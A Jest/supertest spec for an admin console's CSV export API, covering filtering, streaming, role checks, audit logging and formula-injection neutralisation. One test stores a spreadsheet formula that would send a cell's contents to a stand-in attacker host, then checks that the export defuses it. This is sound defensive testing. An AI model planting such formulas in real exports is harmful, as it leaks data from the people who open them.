import { randomBytes } from 'node:crypto';
import request from 'supertest';
import { startIsolatedApi, type TestApi } from './harness';

const unique = (label: string) => `${label}_${randomBytes(5).toString('hex')}`;

/** RFC 4180 as the API writes it: quoted cells may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += c;
  }
  return rows;
}

describe('GET /api/exports/<resource>', () => {
  let api: TestApi;
  const exportCsv = async (path: string, who: Parameters<TestApi['token']>[0] = 'viewer') =>
    request(api.http).get(path).set('Authorization', `Bearer ${await api.token(who)}`).buffer(true).parse((res, done) => {
      let text = '';
      res.on('data', (chunk: Buffer) => (text += chunk.toString('utf8')));
      res.on('end', () => done(null, text));
    });

  beforeAll(async () => {
    // A database of its own: thousands of recharges here stay out of the other specs' counts.
    api = await startIsolatedApi('exports');
  });
  afterAll(async () => {
    await api?.close();
  });

  async function recharges(userId: string, count: number) {
    await api.dataSource.query(
      `INSERT INTO recharges (provider, provider_ref, user_id, method, coins, amount_minor, currency, state, occurred_at)
       SELECT 'stripe', $1 || '_' || i, $2, 'card', 70, 100 + i, 'USD', 'received', now() FROM generate_series(1, $3) i`,
      [unique('ch'), userId, count],
    );
  }

  it('downloads exactly the rows the list filter selects, in the list sort, with the list columns', async () => {
    const userId = unique('exp_user');
    await recharges(userId, 3);
    const response = await exportCsv(`/api/exports/recharges?filter=${encodeURIComponent(JSON.stringify({ user_id: userId }))}&sort=${encodeURIComponent('["amount","DESC"]')}&range=[0,0]`);
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="recharges-\d{4}-\d{2}-\d{2}\.csv"$/);
    const [header, ...rows] = parseCsv(response.body);
    expect(header).toEqual(expect.arrayContaining(['id', 'provider_ref', 'user_id', 'amount', 'currency', 'state']));
    const amount = header.indexOf('amount');
    // range is ignored: an export is the whole filtered list.
    expect(rows.map((r) => r[amount])).toEqual(['103', '102', '101']);
    expect(rows.every((r) => r[header.indexOf('user_id')] === userId)).toBe(true);
  });

  it('streams a list longer than a batch (5,000 rows) batch by batch, every row once', async () => {
    const userId = unique('exp_many');
    await recharges(userId, 12_345);
    const response = await exportCsv(`/api/exports/recharges?filter=${encodeURIComponent(JSON.stringify({ user_id: userId }))}&sort=${encodeURIComponent('["amount","ASC"]')}`, 'finance');
    const [header, ...rows] = parseCsv(response.body);
    expect(rows).toHaveLength(12_345);
    const refs = rows.map((r) => r[header.indexOf('provider_ref')]);
    expect(new Set(refs).size).toBe(12_345);
    expect(rows[0][header.indexOf('amount')]).toBe('101');
    expect(rows.at(-1)?.[header.indexOf('amount')]).toBe('12445');
  });

  it('neutralises a cell a spreadsheet would run as a formula', async () => {
    const value = unique('formula_device');
    await api.dataSource.query(`INSERT INTO list_entries (list, kind, value, reason, author) VALUES ('block', 'device', $1, $2, 'ts@coinops.dev')`, [
      value,
      '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    ]);
    const response = await exportCsv(`/api/exports/list-entries?filter=${encodeURIComponent(JSON.stringify({ value }))}`);
    const [header, row] = parseCsv(response.body);
    expect(row[header.indexOf('reason')]).toBe(`'=HYPERLINK("http://attacker.example/?"&A1,"click")`);
  });

  it("refuses what the list refuses, naming the field, and keeps each list's roles", async () => {
    const badFilter = await exportCsv(`/api/exports/recharges?filter=${encodeURIComponent('{"nope":1}')}`);
    expect(badFilter.status).toBe(400);
    expect(JSON.parse(badFilter.body).details[0].field).toBe('filter.nope');
    const badSort = await exportCsv(`/api/exports/users?sort=${encodeURIComponent('["password","ASC"]')}`);
    expect(JSON.parse(badSort.body).details[0].field).toBe('sort');
    expect((await exportCsv('/api/exports/operators', 'viewer')).status).toBe(403);
    expect((await exportCsv('/api/exports/operators', 'support')).status).toBe(403);
    const operators = await exportCsv('/api/exports/operators', 'admin');
    expect(operators.status).toBe(200);
    expect(parseCsv(operators.body)[0]).not.toContain('password_hash');
    expect((await exportCsv('/api/exports/secrets')).status).toBe(404);
    expect((await request(api.http).get('/api/exports/users')).status).toBe(401);
  });

  it('exports every list the console shows', async () => {
    for (const resource of ['users', 'creators', 'gifts', 'recharges', 'alerts', 'rules', 'list-entries', 'reviews', 'ledger-accounts', 'ledger-transactions', 'audit-events', 'refunds', 'adjustments', 'chargebacks', 'payouts']) {
      const response = await exportCsv(`/api/exports/${resource}?filter=${encodeURIComponent('{"q":"no-such-thing-anywhere"}')}`, 'admin');
      expect([resource, response.status]).toEqual([resource, 200]);
    }
  });

  it('records who exported which list, with the filter and the number of rows', async () => {
    const userId = unique('exp_audit');
    await recharges(userId, 2);
    const filter = JSON.stringify({ user_id: userId });
    await exportCsv(`/api/exports/recharges?filter=${encodeURIComponent(filter)}`, 'support');
    const [audit] = await api.dataSource.query(
      `SELECT actor_email, entity_id, after FROM audit_events WHERE action = 'export.downloaded' AND after->'filter'->>'user_id' = $1`,
      [userId],
    );
    expect(audit).toEqual({ actor_email: 'support@coinops.dev', entity_id: 'recharges', after: { filter: { user_id: userId }, sort: ['created_at', 'DESC'], rows: 2 } });
  });
});
